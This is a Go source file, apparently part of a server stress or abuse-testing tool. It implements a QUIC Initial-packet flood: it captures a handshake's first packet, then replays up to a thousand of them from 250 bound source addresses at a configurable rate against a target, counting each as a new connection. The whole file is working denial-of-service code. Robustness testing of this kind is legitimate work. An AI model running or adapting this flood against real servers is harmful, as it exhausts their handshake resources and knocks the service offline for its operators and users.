package abuse

import (
	"bytes"
	"context"
	"net"
	"net/netip"
	"sync"
	"time"

	"github.com/quic-go/quic-go"
	"github.com/quic-go/quic-go/http3"
)

const (
	// initialsMade are the first packets that are made, and sent again and again: each is a
	// connection anew, once the server has forgotten the one before.
	initialsMade   = 1000
	initialsRate   = 2000 // a second
	initialsFrom   = 250  // addresses, for one key: nobody has proved any of them
	initialsPacked = 50   // sent at a time
)

// catching takes the first packet of a handshake and lets nothing come or go.
type catching struct {
	net.PacketConn
	once  sync.Once
	first []byte
	done  chan struct{}
}

func (c *catching) WriteTo(b []byte, _ net.Addr) (int, error) {
	c.once.Do(func() {
		c.first = bytes.Clone(b)
		close(c.done)
	})
	return len(b), nil
}

// initial makes the first packets of a connection.
func (c *crew) initial(ctx context.Context, to net.Addr) ([]byte, error) {
	udp, err := net.ListenUDP("udp", &net.UDPAddr{IP: net.IPv4(127, 0, 0, 1)}) // hears nothing
	if err != nil {
		return nil, err
	}
	ctx, cancel := context.WithCancel(ctx)
	caught := &catching{PacketConn: struct{ net.PacketConn }{udp}, done: make(chan struct{})}
	tr := &quic.Transport{Conn: caught}
	conf := c.tls.Clone()
	conf.NextProtos, conf.ServerName, conf.CurvePreferences = []string{http3.NextProtoH3}, c.host(), nil
	var wg sync.WaitGroup
	wg.Go(func() { _, _ = tr.Dial(ctx, to, conf, &quic.Config{}) }) // nobody answers
	select {
	case <-caught.done:
	case <-ctx.Done():
	}
	cancel()
	wg.Wait()
	_, _ = tr.Close(), udp.Close()
	return caught.first, nil
}

// initials sends them from many addresses, which hear nothing.
func initials(ctx context.Context, c *crew) error {
	to, err := net.ResolveUDPAddr("udp", c.Target)
	if err != nil {
		return err
	}
	var packets [][]byte
	var socks []*net.UDPConn
	defer func() {
		for _, s := range socks {
			_ = s.Close()
		}
	}()
	for i := range initialsFrom {
		a := c.Keys[0].As4()
		at := netip.AddrFrom4([4]byte{a[0], a[1], a[2] + 1, byte(i + 1)})
		s, err := net.ListenUDP("udp", &net.UDPAddr{IP: at.AsSlice()})
		if err != nil {
			return err
		}
		socks = append(socks, s)
	}
	every := time.NewTicker(time.Second * initialsPacked / time.Duration(initialsRate*c.Strength))
	defer every.Stop()
	for i := 0; ctx.Err() == nil; {
		for range initialsPacked {
			if len(packets) < initialsMade {
				p, err := c.initial(ctx, to)
				if err != nil {
					return err
				}
				packets = append(packets, p)
			}
			_, _ = socks[i%len(socks)].WriteTo(packets[i%len(packets)], to) // what is lost is sent again
			c.did.conns.Add(1)
			i++
		}
		select {
		case <-every.C:
		case <-ctx.Done():
		}
	}
	return nil
}
